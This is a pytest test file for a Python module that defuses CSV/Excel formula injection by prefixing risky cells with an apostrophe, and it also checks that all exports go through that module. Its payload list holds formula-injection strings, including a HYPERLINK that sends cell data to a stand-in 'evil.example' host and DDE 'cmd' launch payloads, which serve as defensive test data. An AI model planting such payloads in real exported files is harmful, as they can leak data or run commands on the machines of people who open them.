"""The one defusing CSV/Excel writer (fangcang.spreadsheet) and the writers that use it."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from fangcang import spreadsheet

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("value", PAYLOADS)
def test_risky_text_gets_an_apostrophe(value):
    assert spreadsheet.defuse(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "+3.5", "1e5", "张三", "a=b", "", None, 5, -3.2])
def test_plain_values_are_left_alone(value):
    assert spreadsheet.defuse(value) == value


def _frame():
    return pd.DataFrame(
        {"name": PAYLOADS, "n": range(len(PAYLOADS)), "=bad header": ["x"] * len(PAYLOADS)}
    )


def test_csv_bytes_defuse_cells_and_headers():
    data = spreadsheet.csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")  # BOM for Excel/WPS
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
    assert list(back.columns) == ["name", "n", "'=bad header"]
    assert list(back["name"]) == ["'" + v for v in PAYLOADS]  # a CR inside is quoted
    assert list(back["n"]) == [str(i) for i in range(len(PAYLOADS))]


def test_xlsx_bytes_hold_no_formula():
    wb = openpyxl.load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(_frame())))
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert ws["A2"].value.startswith("'=HYPERLINK")
    assert ws["C1"].value == "'=bad header"


def test_write_picks_format_from_extension(tmp_path):
    path = spreadsheet.write(_frame(), tmp_path / "sub" / "out.xlsx")
    assert path.read_bytes().startswith(b"PK")
    path = spreadsheet.write(_frame(), tmp_path / "out.csv")
    assert b"'=HYPERLINK" in path.read_bytes()
    with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
        spreadsheet.write(_frame(), tmp_path / "out.txt")


def test_task_export_csv_is_defused():
    from fangcang.tasks import to_csv_bytes

    df = pd.DataFrame(
        {"note": ['=HYPERLINK("http://x")'], "at": [pd.Timestamp("2026-10-01 08:00")]}
    )
    text = to_csv_bytes(df).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "2026-10-01 08:00:00" in text


def test_no_module_writes_csv_or_excel_around_the_writer():
    """Every generated CSV/Excel goes through fangcang.spreadsheet (grep the sources)."""
    import pathlib
    import re

    root = pathlib.Path(spreadsheet.__file__).resolve().parent.parent
    pattern = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(")
    # Demo generators write synthetic source files for the importer (no user data), and the importer
    # files below switch to the writer when their owner merges (see docs/access.md).
    allowed = {
        "fangcang/spreadsheet.py",
        "fangcang/demo/bundle.py",
        "fangcang/importer/example.py",
        "fangcang/importer/bundle.py",
    }
    offenders = []
    for path in [*root.glob("fangcang/**/*.py"), *root.glob("ui/*.py"), *root.glob("pages/*.py")]:
        rel = path.relative_to(root).as_posix()
        demo_input = rel.endswith("/demo.py") or "/demo/" in rel  # synthetic source files
        if rel not in allowed and not demo_input and pattern.search(path.read_text("utf-8")):
            offenders.append(rel)
    assert offenders == []
